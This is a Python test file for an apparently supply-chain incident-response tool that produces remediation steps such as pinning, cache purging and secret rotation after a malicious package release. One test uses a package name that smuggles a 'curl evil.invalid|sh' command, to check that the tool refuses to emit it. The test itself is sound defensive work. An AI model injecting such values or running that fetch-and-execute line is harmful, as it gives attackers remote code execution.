import pytest

from pratique.core.names import Ecosystem, PackageRef
from pratique.respond.actions.step import Step, StepKind, System
from pratique.respond.actions.steps import actions, clients_of, good_version
from pratique.respond.exposure import Exposure
from pratique.respond.sighting import Contact, PlaceKind, Sighting, Unchecked
from tests.respond.actions.samples import exposure, sighting, wanted
from tests.respond.behaviour.samples import behaviour

LOCK = sighting(PlaceKind.LOCK, Contact.LOCKED, "package-lock.json:12")
RAN = sighting(PlaceKind.DEBUG_LOG, Contact.EXECUTED, place="build-7", note="postinstall ran")


def kinds(*found: Sighting) -> list[StepKind]:
    return [step.kind for step in actions(exposure(*found))]


def step(kind: StepKind, told: Exposure) -> Step:
    return next(one for one in actions(told) if one.kind is kind)


def lines(kind: StepKind, told: Exposure) -> list[str]:
    return [one.line for one in step(kind, told).commands if one.system is System.POSIX]


def test_a_refused_release_needs_no_cleaning() -> None:
    [only] = actions(exposure(sighting(PlaceKind.GATE_LOG, Contact.REFUSED)))
    assert (StepKind.NOTHING, "Nothing must be cleaned.", 1) == (only.kind, only.title, len(only.applies_to))


def test_nothing_found_needs_nothing() -> None:
    assert () == actions(exposure())


def test_what_could_not_be_searched_is_a_step_even_if_nothing_was_found() -> None:
    [only] = actions(exposure(unchecked=(Unchecked("shop", "a.lock", "unknown format"),)))
    assert (StepKind.SEARCH_AGAIN, ("shop a.lock: unknown format",)) == (only.kind, only.notes)


def test_code_that_ran_calls_for_every_step_in_order() -> None:
    given = (RAN, LOCK, sighting(PlaceKind.CACHE, Contact.FETCHED, place="/home/a/.npm/_cacache"))
    told = [one.kind for one in actions(exposure(*given), behaviour())]
    assert [
        "freeze",
        "isolate",
        "purge",
        "remove-persistence",
        "rotate",
        "pin",
        "regenerate-lock",
        "hunt",
        "report",
    ] == told


def test_a_lock_alone_needs_no_rotation() -> None:
    assert ["freeze", "pin", "regenerate-lock", "report"] == kinds(LOCK)


def test_a_cache_alone_is_purged() -> None:
    assert ["freeze", "purge", "report"] == kinds(sighting(PlaceKind.CACHE, Contact.FETCHED))


def test_a_download_by_a_client_counts_as_an_install_for_secrets() -> None:
    assert StepKind.ROTATE in kinds(sighting(PlaceKind.PROXY_LOG, Contact.FETCHED))


def test_a_lock_that_no_longer_lists_the_release_needs_no_pin() -> None:
    assert ["freeze", "report"] == kinds(sighting(PlaceKind.LOCK_HISTORY, Contact.LOCKED, current=False))


def test_a_vulnerability_is_only_upgraded() -> None:
    told = actions(exposure(LOCK, request=wanted(malicious=False)))
    assert ["pin", "regenerate-lock"] == [one.kind for one in told]


def test_the_freeze_begins_before_the_release() -> None:
    [line] = lines(StepKind.FREEZE, exposure(LOCK))
    assert "--published-before 2026-11-30T08:00:00Z --until" in line


def test_secrets_and_places_are_named_from_the_behaviour() -> None:
    told = {one.kind: one for one in actions(exposure(RAN), behaviour())}
    assert (".npmrc", "all environment variables") == told[StepKind.ROTATE].notes
    assert any("changes a shell profile" in note for note in told[StepKind.PERSISTENCE].notes)


def test_without_a_behaviour_all_secrets_are_named() -> None:
    assert 3 < len(step(StepKind.ROTATE, exposure(RAN)).notes)


def test_the_last_good_version_is_pinned() -> None:
    assert [
        "npm install --package-lock-only --ignore-scripts --save-exact calm@1.0.0",
        "npm pkg set 'overrides[calm]=1.0.0'",
    ] == lines(StepKind.PIN, exposure(LOCK))
    assert ("1.0.0", "", "") == (
        good_version(wanted().releases[0]),
        good_version(wanted(good="").releases[0]),
        good_version(None),
    )


def test_without_a_good_version_the_package_is_removed() -> None:
    told = exposure(LOCK, request=wanted(good=""))
    assert ["npm uninstall --ignore-scripts calm"] == lines(StepKind.PIN, told)


@pytest.mark.parametrize(
    ("ecosystem", "inside", "client"),
    [
        (Ecosystem.NPM, "web/package-lock.json:3", "npm"),
        (Ecosystem.NPM, "yarn.lock", "yarn"),
        (Ecosystem.NPM, "pnpm-lock.yaml:9", "pnpm"),
        (Ecosystem.NPM, "bun.lock", "bun"),
        (Ecosystem.PYPI, "requirements.txt:1", "pip"),
        (Ecosystem.PYPI, "uv.lock:1", "uv"),
        (Ecosystem.PYPI, "poetry.lock", "Poetry"),
        (Ecosystem.PYPI, "pdm.lock", "PDM"),
        (Ecosystem.PYPI, "Pipfile.lock", "Pipenv"),
        (Ecosystem.RUBYGEMS, "Gemfile.lock:4", "Bundler"),
    ],
)
def test_the_lock_names_the_package_manager(ecosystem: Ecosystem, inside: str, client: str) -> None:
    one = sighting(PlaceKind.LOCK, Contact.LOCKED, inside, ref=PackageRef(ecosystem, "calm").at("1.0.1"))
    assert [client] == [found.name for found in clients_of(one, exposure(one))]


def test_the_format_tells_yarn_1_and_an_unknown_place_all_of_the_ecosystem() -> None:
    one = sighting(PlaceKind.CACHE, Contact.FETCHED, place="/c")
    assert ["yarn 1"] == [found.name for found in clients_of(one, exposure(one, format_="yarn1"))]
    assert 5 == len(clients_of(one, exposure(one)))


@pytest.mark.parametrize(
    ("kind", "format_", "shown"),
    [
        (PlaceKind.GATE_LOG, "", "pratique deny pkg:npm/calm@1.0.1 --reason 'malicious release'"),
        (PlaceKind.PROXY_LOG, "verdaccio log", "rm -f storage/calm/*-1.0.1.tgz"),
        (PlaceKind.PROXY_LOG, "devpi log", "devpi remove --yes calm==1.0.1"),
    ],
)
def test_the_cache_of_a_proxy_is_purged(kind: PlaceKind, format_: str, shown: str) -> None:
    assert [shown] == lines(
        StepKind.PURGE, exposure(sighting(kind, Contact.FETCHED, place="log"), format_=format_)
    )


def test_an_image_and_an_unknown_proxy_are_named() -> None:
    image = sighting(PlaceKind.IMAGE, Contact.INSTALLED, place="shop:1")
    log = sighting(PlaceKind.PROXY_LOG, Contact.FETCHED, place="odd.log")
    notes = " ".join(step(StepKind.PURGE, exposure(image, log)).notes)
    assert "Delete the image shop:1" in notes
    assert "the proxy that wrote odd.log" in notes


def test_a_name_that_cannot_be_pasted_gives_no_command_and_says_so() -> None:
    evil = PackageRef(Ecosystem.NPM, "a;curl evil.invalid|sh").at("1.0.0")
    told = actions(
        exposure(
            sighting(PlaceKind.LOCK, Contact.LOCKED, "package-lock.json", ref=evil), request=wanted(evil)
        )
    )
    assert not any("evil" in command.line for one in told for command in one.commands)
    assert any("cannot be pasted" in note for one in told for note in one.notes)
